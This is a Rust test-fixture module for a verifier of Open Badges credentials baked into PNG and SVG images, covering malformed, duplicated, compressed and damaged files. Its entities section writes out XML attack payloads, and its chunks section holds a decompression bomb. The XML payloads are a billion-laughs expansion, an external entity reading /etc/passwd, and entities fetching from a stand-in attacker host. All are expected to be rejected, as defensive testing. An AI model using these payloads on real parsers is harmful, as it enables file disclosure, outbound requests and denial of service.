//! Baked images, well and badly made.

use super::Group;
use super::badge::{key_issuer, small};
use super::edit::swap;
use super::expected::{Expected, invalid, valid};
use super::keys;
use super::picture::{SVG, baked, chunk, credential_chunk, deflate, itxt, png};
use super::sign::{jwt_by, signed};

pub(super) fn group() -> Group {
    let mut group = Group::new("images");
    chunks(&mut group);
    damage(&mut group);
    elements(&mut group);
    entities(&mut group);
    group
}

fn badge() -> String {
    signed(&small(&key_issuer()))
}

/// Read, with a note about the image.
fn noted(note: &str) -> Expected {
    valid().says(&format!("\"notes\":[\"{note}\"]"))
}

/// Not read, because of this.
fn refused(fault: &str) -> Expected {
    invalid("form.image").says(fault).asks([])
}

fn chunks(group: &mut Group) {
    let badge = badge();
    let own = credential_chunk(&badge);
    let other = credential_chunk(&swap(&badge, "Made ten edits", "Made 1000 edits"));
    group.add(
        "after-the-pixels.png",
        png(b"", &own),
        valid(),
        "the credential stands behind the pixels",
    );
    let old = itxt(
        "openbadges",
        &[0, 0, 0, 0],
        b"https://issuer.example.org/assertions/7f3a",
    );
    group.add(
        "open-badges-2-beside.png",
        png(&[old.clone(), own.clone()].concat(), b""),
        valid(),
        "an Open Badges 2.0 assertion beside it",
    );
    group.add(
        "open-badges-2-only.png",
        png(&old, b""),
        refused("bake.open-badges-2"),
        "an Open Badges 2.0 assertion only",
    );
    group.add(
        "two-chunks.png",
        png(&[own.clone(), other.clone()].concat(), b""),
        refused("bake.two-credentials"),
        "two credentials: which one is meant?",
    );
    group.add(
        "two-chunks-apart.png",
        png(&other, &own),
        refused("bake.two-credentials"),
        "two credentials, before and behind the pixels",
    );
    group.add(
        "two-same-chunks.png",
        png(&[own.clone(), own.clone()].concat(), b""),
        refused("bake.two-credentials"),
        "the same credential twice",
    );
    let packed = itxt(
        "openbadgecredential",
        &[1, 0, 0, 0],
        &deflate(badge.as_bytes()),
    );
    group.add(
        "compressed.png",
        png(&packed, b""),
        noted("compressed"),
        "compressed, which the standard forbids",
    );
    group.add(
        "compressed-beside.png",
        png(&[packed, own.clone()].concat(), b""),
        refused("bake.two-credentials"),
        "two credentials, one compressed",
    );
    let flag = itxt("openbadgecredential", &[2, 0, 0, 0], badge.as_bytes());
    group.add(
        "compression-flag.png",
        png(&flag, b""),
        refused("bake.chunk"),
        "a compression that does not exist",
    );
    let not_packed = itxt("openbadgecredential", &[1, 0, 0, 0], badge.as_bytes());
    group.add(
        "compressed-not.png",
        png(&not_packed, b""),
        refused("bake.chunk"),
        "said to be compressed, and is not",
    );
    let text = chunk(
        b"tEXt",
        &[b"openbadgecredential\0", badge.as_bytes()].concat(),
    );
    group.add(
        "text-chunk.png",
        png(&text, b""),
        noted("text-chunk"),
        "in another kind of text chunk",
    );
    let packed_text = chunk(
        b"zTXt",
        &[
            b"openbadgecredential\0\0",
            deflate(badge.as_bytes()).as_slice(),
        ]
        .concat(),
    );
    group.add(
        "packed-text-chunk.png",
        png(&packed_text, b""),
        noted("text-chunk"),
        "in the compressed kind of text chunk",
    );
    let bomb = itxt(
        "openbadgecredential",
        &[1, 0, 0, 0],
        &deflate(&vec![b' '; 5 << 20]),
    );
    group.add(
        "bomb.png",
        png(&bomb, b""),
        refused("bake.text-too-long"),
        "a few bytes that unpack to more than is read",
    );
    let padded = format!("{badge}{}", " ".repeat(1 << 20));
    let long = itxt(
        "openbadgecredential",
        &[1, 0, 0, 0],
        &deflate(padded.as_bytes()),
    );
    group.add(
        "long.png",
        png(&long, b""),
        valid(),
        "a mebibyte of spaces around a badge",
    );
    let inside = swap(
        &badge,
        "\"validUntil\"",
        &format!("{}\"validUntil\"", " ".repeat(1 << 20)),
    );
    let long = itxt(
        "openbadgecredential",
        &[1, 0, 0, 0],
        &deflate(inside.as_bytes()),
    );
    group.add(
        "too-long.png",
        png(&long, b""),
        invalid("form.syntax").asks([]),
        "more than a mebibyte of JSON",
    );
    let translated = itxt(
        "openbadgecredential",
        &[0, 0, b'e', b'n'],
        &[b"\0Badge\0", badge.as_bytes()].concat(),
    );
    group.add(
        "translated-keyword.png",
        png(&translated, b""),
        valid(),
        "with a language and a translated keyword",
    );
    group.add(
        "no-credential.png",
        png(b"", b""),
        refused("bake.no-credential"),
        "a picture without a badge",
    );
    group.add(
        "empty-credential.png",
        png(&credential_chunk(""), b""),
        refused("bake.empty-credential"),
        "the place is there, and empty",
    );
    let shouted = itxt("OpenBadgeCredential", &[0, 0, 0, 0], badge.as_bytes());
    group.add(
        "keyword-in-capitals.png",
        png(&shouted, b""),
        refused("bake.no-credential"),
        "the keyword in other letters",
    );
    let words = credential_chunk("Congratulations!");
    group.add(
        "words.png",
        png(&words, b""),
        invalid("form.not-a-badge").asks([]),
        "words in the place of a credential",
    );
    let forged = credential_chunk(&swap(&badge, "Made ten edits", "Made 1000 edits"));
    group.add(
        "altered.png",
        png(&forged, b""),
        invalid("proof.signature").asks([]),
        "a badge that was changed, in a sound image",
    );
}

fn damage(group: &mut Group) {
    let good = baked(&badge(), &png(b"", b""));
    let at = good.windows(4).position(|bytes| bytes == b"iTXt").unwrap();
    let mut flipped = good.clone();
    flipped[at + 200] ^= 1;
    group.add(
        "wrong-checksum.png",
        flipped,
        refused("bake.checksum"),
        "a bit of the credential's chunk is wrong",
    );
    let mut pixels = good.clone();
    let data = pixels
        .windows(4)
        .position(|bytes| bytes == b"IDAT")
        .unwrap();
    pixels[data + 8] ^= 1;
    group.add(
        "wrong-checksum-pixels.png",
        pixels,
        refused("bake.checksum"),
        "a bit of the pixels is wrong",
    );
    group.add(
        "truncated.png",
        good[..at + 300].to_vec(),
        refused("bake.truncated"),
        "the file ends inside the credential",
    );
    group.add(
        "no-end.png",
        good[..good.len() - 12].to_vec(),
        refused("bake.missing-chunk"),
        "the file ends before its end",
    );
    let behind = [good.as_slice(), &credential_chunk(&badge())].concat();
    group.add(
        "after-the-end.png",
        behind,
        noted("data-after-end"),
        "a second credential behind the end is not part of the image",
    );
    let only_behind = [png(b"", b"").as_slice(), &credential_chunk(&badge())].concat();
    group.add(
        "only-after-the-end.png",
        only_behind,
        refused("bake.no-credential"),
        "a credential behind the end is not part of the image",
    );
    let mut huge = good.clone();
    huge[at - 4..at].copy_from_slice(&[0xff; 4]);
    group.add(
        "chunk-length.png",
        huge,
        refused("bake.truncated"),
        "a chunk that is said to be longer than the file",
    );
    group.add(
        "gif.png",
        b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(),
        invalid("form.not-a-badge").asks([]),
        "another kind of image",
    );
}

fn svg(inside: &str) -> String {
    swap(SVG, "<rect", &format!("{inside}<rect"))
}

const NAMESPACE: &str = "xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"";

fn element(content: &str) -> String {
    format!("<openbadges:credential {NAMESPACE}>{content}</openbadges:credential>")
}

fn elements(group: &mut Group) {
    let badge = badge();
    let jwt = jwt_by(&small(&key_issuer()), &keys::issuer());
    let cdata = format!("<![CDATA[{badge}]]>");
    let own = element(&cdata);
    let other = element(&format!(
        "<![CDATA[{}]]>",
        swap(&badge, "Made ten edits", "Made 1000 edits")
    ));
    group.add(
        "two-elements.svg",
        svg(&format!("{own}{other}")),
        refused("bake.two-credentials"),
        "two credentials: which one is meant?",
    );
    group.add(
        "other-prefix.svg",
        svg(&own
            .replace("openbadges:", "ob:")
            .replace("xmlns:openbadges", "xmlns:ob")
            .replace("xmlns:ob:", "xmlns:")),
        valid(),
        "another prefix for the same namespace",
    );
    let escaped = badge
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;");
    group.add(
        "escaped.svg",
        svg(&element(&escaped)),
        valid(),
        "text with escapes instead of one CDATA section",
    );
    let (left, right) = badge.split_at(300);
    let parts = format!("<![CDATA[{left}]]><!-- here --><![CDATA[{right}]]>");
    group.add(
        "two-sections.svg",
        svg(&element(&parts)),
        valid(),
        "two CDATA sections and a comment",
    );
    let nested = svg(&format!("<g><metadata>{own}</metadata></g>"));
    group.add(
        "nested.svg",
        nested,
        valid(),
        "the element stands deeper than the standard has it",
    );
    let wrong = own.replace(
        "https://purl.imsglobal.org/ob/v3p0",
        "https://example.org/ob",
    );
    group.add(
        "other-namespace.svg",
        svg(&wrong),
        refused("bake.no-credential"),
        "an element of another namespace",
    );
    let draft = own.replace(
        "https://purl.imsglobal.org/ob/v3p0",
        "https://purl.imsglobal.org/spec/ob/v3p0",
    );
    group.add(
        "almost-namespace.svg",
        svg(&draft),
        refused("bake.no-credential"),
        "a namespace that is almost right",
    );
    let attribute = format!(
        "<openbadges:credential {NAMESPACE} verify=\"{jwt}\">{cdata}</openbadges:credential>"
    );
    group.add(
        "attribute-and-text.svg",
        svg(&attribute),
        refused("bake.verify-and-body"),
        "a JWT as attribute and JSON as text: which one is meant?",
    );
    let body = element(&jwt);
    group.add(
        "jwt-as-text.svg",
        svg(&body),
        valid(),
        "a JWT as text instead of an attribute",
    );
    group.add(
        "empty-element.svg",
        svg(&element("")),
        refused("bake.empty-credential"),
        "the place is there, and empty",
    );
    group.add(
        "element-inside.svg",
        svg(&element("<g/>")),
        refused("bake.not-text"),
        "an element in the place of a credential",
    );
    group.add(
        "svg-no-credential.svg",
        SVG,
        refused("bake.no-credential"),
        "a picture without a badge",
    );
    group.add(
        "commented-out.svg",
        svg(&format!("<!--{}-->", element("x"))),
        refused("bake.no-credential"),
        "a credential inside a comment is none",
    );
    let cut = svg(&own);
    group.add(
        "svg-truncated.svg",
        cut[..cut.len() - 20].to_owned(),
        refused("bake.not-well-formed"),
        "the file ends before its end",
    );
    let doctype = format!(
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\">\n{}",
        svg(&own)
    );
    group.add(
        "doctype.svg",
        doctype,
        valid(),
        "a document type without entities",
    );
}

fn entities(group: &mut Group) {
    let own = element(&format!("<![CDATA[{}]]>", badge()));
    let with_type =
        |subset: &str, content: &str| format!("<!DOCTYPE svg [\n{subset}\n]>\n{}", svg(content));
    let mut bomb = String::from("<!ENTITY a0 \"ha\">");
    for level in 1..30 {
        bomb.push_str(&format!("\n<!ENTITY a{level} \"&a{0};&a{0};\">", level - 1));
    }
    let declared = || refused("bake.entity-declaration");
    group.add(
        "entity-bomb.svg",
        with_type(&bomb, &element("&a29;")),
        declared(),
        "entities that unfold without end",
    );
    let file = "<!ENTITY badge SYSTEM \"file:///etc/passwd\">";
    group.add(
        "external-entity.svg",
        with_type(file, &element("&badge;")),
        declared(),
        "an entity that reads the verifier's files",
    );
    let web = "<!ENTITY badge SYSTEM \"https://mallory.example.org/badge\">";
    group.add(
        "external-entity-web.svg",
        with_type(web, &element("&badge;")),
        declared(),
        "an entity that calls out",
    );
    let parameter = "<!ENTITY % all SYSTEM \"https://mallory.example.org/all.dtd\">\n%all;";
    group.add(
        "parameter-entity.svg",
        with_type(parameter, &own),
        declared(),
        "a parameter entity that calls out",
    );
    let unused = "<!ENTITY label \"Badge\">";
    group.add(
        "unused-entity.svg",
        with_type(unused, &own),
        declared(),
        "an entity that is not even used",
    );
    group.add(
        "unknown-entity.svg",
        svg(&element("&badge;")),
        refused("bake.unknown-entity"),
        "an entity that is not declared",
    );
    let mut wide = vec![0xff, 0xfe];
    wide.extend(svg(&own).encode_utf16().flat_map(u16::to_le_bytes));
    group.add(
        "utf-16.svg",
        wide,
        refused("bake.encoding"),
        "another encoding than UTF-8",
    );
    let deep = svg(&format!(
        "{}{own}{}",
        "<g>".repeat(2000),
        "</g>".repeat(2000)
    ));
    group.add(
        "deep.svg",
        deep,
        refused("bake.too-complex"),
        "nested too deep to be a picture",
    );
}
